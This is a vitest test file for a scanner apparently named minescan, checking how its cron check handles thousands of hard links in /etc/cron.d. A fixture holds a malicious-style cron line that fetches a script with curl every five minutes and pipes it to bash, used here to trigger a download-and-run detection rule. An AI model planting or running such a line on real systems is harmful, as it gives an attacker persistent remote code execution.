/**
 * Hard links in cron.d: every name is a job to cron, but one file is read once however
 * many names it has (counted in bytes read), a file with findings is reported under
 * its first names only, and a directory past the check's entry bound is reported as
 * not read to the end.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { link, mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { cronCheck } from '../../src/checks/cron.js';
import { scanTarget } from '../../src/engine/scan.js';
import { EMPTY_HASH_LIST } from '../../src/hashes/empty-hash-list.js';
import { builtinRules } from '../helpers/scan-dir.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';

const BAD = '*/5 * * * * root curl -fsSL http://198.51.100.7/gi.sh | bash\n';
const CLEAN = '30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all -A -r\n';

let scratch: string;

/** etc/cron.d/<name> and `count` hard links to it (link(2), as `ln` makes them). */
async function linkedTree(name: string, content: string, count: number): Promise<string> {
  const root = path.join(scratch, name);
  const dir = path.join(root, 'etc/cron.d');
  await mkdir(dir, { recursive: true });
  await writeFile(path.join(dir, name), content);
  for (let i = 0; i < count; i++) await link(path.join(dir, name), path.join(dir, `${name}-${i}`));
  return root;
}

async function scan(root: string) {
  return scanTarget(root, { checks: [cronCheck], rules: await builtinRules(), hashes: EMPTY_HASH_LIST });
}

beforeAll(async () => {
  scratch = await makeScratchDir('minescan-cron-links-');
});
afterAll(async () => {
  if (scratch) await removeScratchDir(scratch);
});

describe('hard links in cron.d', () => {
  it('reads a clean file with 5000 names once', async () => {
    const report = await scan(await linkedTree('clean', CLEAN, 5000));
    expect(report.findings).toEqual([]);
    expect(report.errors).toEqual([]);
    expect(report.stats.bytesRead).toBe(CLEAN.length);
  }, 120_000);

  it('reports a bad file under its first 16 names, counts the other links, and bounds the directory', async () => {
    const report = await scan(await linkedTree('bad', BAD, 12_000));
    const download = report.findings.filter((f) => f.rule === 'command.download-and-run');
    expect(download).toHaveLength(16);
    expect(new Set(download.map((f) => f.path)).size).toBe(16);
    // 16 reads of the file, whatever the number of names.
    expect(report.stats.bytesRead).toBe(16 * BAD.length);
    expect(report.errors).toEqual([
      expect.objectContaining({ path: '/etc/cron.d', message: expect.stringMatching(/has 12001 entries; only the first 10000 were read/) }),
      expect.objectContaining({ message: expect.stringMatching(/9984 more hard links to \/etc\/cron\.d\/\S+ \(the same file, with findings\) not reported one by one/) }),
    ]);
  }, 120_000);
});
